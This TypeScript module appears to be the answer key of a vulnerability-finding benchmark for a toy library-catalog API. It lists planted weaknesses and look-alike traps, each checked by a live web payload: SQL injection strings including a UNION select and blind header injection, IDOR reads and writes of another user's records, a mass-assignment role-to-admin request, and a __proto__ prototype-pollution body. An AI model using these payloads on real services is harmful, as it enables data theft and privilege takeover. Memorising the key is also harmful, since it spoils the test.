import { listModule, trap, weakness } from '../listed.ts'
import type { Visitor } from '../visitor.ts'
import { q } from './payloads.ts'

async function asAda(visitor: Visitor, request: string, body?: unknown) {
  await visitor.signIn('ada')
  return visitor.send(request, body === undefined ? {} : { json: body })
}

export const catalogList = listModule('catalog', [
  weakness(['sql-injection', 'POST /api/v1/books/search', 'title', 'a member of JSON'], async ({ send }) => {
    const title = "x%' union select 1, name, hours from branches --"
    return (await send('POST /api/v1/books/search', { json: { title, limit: 5 } })).text.includes('harbor')
  }),
  weakness(['sql-injection', 'GET /api/v1/books/:id', 'id', 'a part of the path'], async ({ get }) =>
    (await get(`/api/v1/books/${q('1 or 1=1')}`)).text.includes('Bridges'),
  ),
  weakness(['sql-injection', 'GET /api/v1/branch', 'X-Branch', 'a header, blind'], async ({ get }) => {
    const yes = await get('/api/v1/branch', { 'x-branch': "x' or '1'='1" })
    return (
      yes.text.includes('true') &&
      (await get('/api/v1/branch', { 'x-branch': "x' or '1'='2" })).text.includes('false')
    )
  }),
  weakness(['idor', 'GET /api/v1/loans/:id', 'id', 'of any user'], async (visitor) =>
    (await asAda(visitor, 'GET /api/v1/loans/508')).text.includes('loan of bob'),
  ),
  weakness(['idor', 'PUT /api/v1/reservations/:id', 'id', 'of any user, for writing'], async (visitor) =>
    (await asAda(visitor, 'PUT /api/v1/reservations/708', { text: 'mine' })).text.includes(
      '"owner":"bob","text":"mine"',
    ),
  ),
  weakness(['mass-assignment', 'PATCH /api/v1/me', 'role', 'every member is taken over'], async (visitor) =>
    (await asAda(visitor, 'PATCH /api/v1/me', { role: 'admin' })).text.includes('"role":"admin"'),
  ),
  weakness(['privilege', 'GET /api/v1/admin/users', '', 'for every user'], async (visitor) =>
    (await asAda(visitor, 'GET /api/v1/admin/users')).text.includes('mayor@'),
  ),
  weakness(
    ['prototype-pollution', 'POST /api/v1/preferences', '__proto__', 'a deep merge'],
    async ({ send }) => {
      const body = '{"theme":"dark","__proto__":{"polluted":"yes"}}'
      const headers = { 'content-type': 'application/json' }
      return (await send('POST /api/v1/preferences', { body, headers })).text.includes('"polluted":"yes"')
    },
  ),
  trap(['sql-injection', 'GET /api/v1/books', 'author', 'bound'], async ({ get }) =>
    (await get(`/api/v1/books?author=${q("x%' or '1'='1' --")}`)).text.includes('Mills'),
  ),
  trap(['sql-injection', 'POST /api/v1/books/search', 'limit', 'a number'], async ({ send }) => {
    const limit = '1 union select 1, name, hours from branches'
    return (await send('POST /api/v1/books/search', { json: { title: 'River', limit } })).text.includes(
      'harbor',
    )
  }),
  trap(['sql-injection', 'GET /api/v1/hours', 'X-Branch', 'a header, bound'], async ({ get }) =>
    (await get('/api/v1/hours', { 'x-branch': "x' or '1'='1" })).text.includes('center'),
  ),
  trap(['idor', 'GET /api/v1/fines/:id', 'id', 'of the user alone'], async (visitor) =>
    (await asAda(visitor, 'GET /api/v1/fines/608')).text.includes('bob'),
  ),
  trap(
    ['idor', 'PUT /api/v1/notes/:id', 'id', 'of the user alone'],
    async (visitor) => (await asAda(visitor, 'PUT /api/v1/notes/808', { text: 'mine' })).status === 200,
  ),
  trap(['mass-assignment', 'PATCH /api/v1/contact', 'role', 'two members only'], async (visitor) =>
    (await asAda(visitor, 'PATCH /api/v1/contact', { role: 'admin' })).text.includes('"role":"admin"'),
  ),
  trap(
    ['privilege', 'GET /api/v1/admin/audit', '', 'for the mayor'],
    async (visitor) => (await asAda(visitor, 'GET /api/v1/admin/audit')).status === 200,
  ),
  trap(['prototype-pollution', 'POST /api/v1/display', '__proto__', 'two members only'], async ({ send }) => {
    const body = '{"theme":"dark","__proto__":{"polluted":"yes"}}'
    return (
      await send('POST /api/v1/display', { body, headers: { 'content-type': 'application/json' } })
    ).text.includes('polluted')
  }),
])
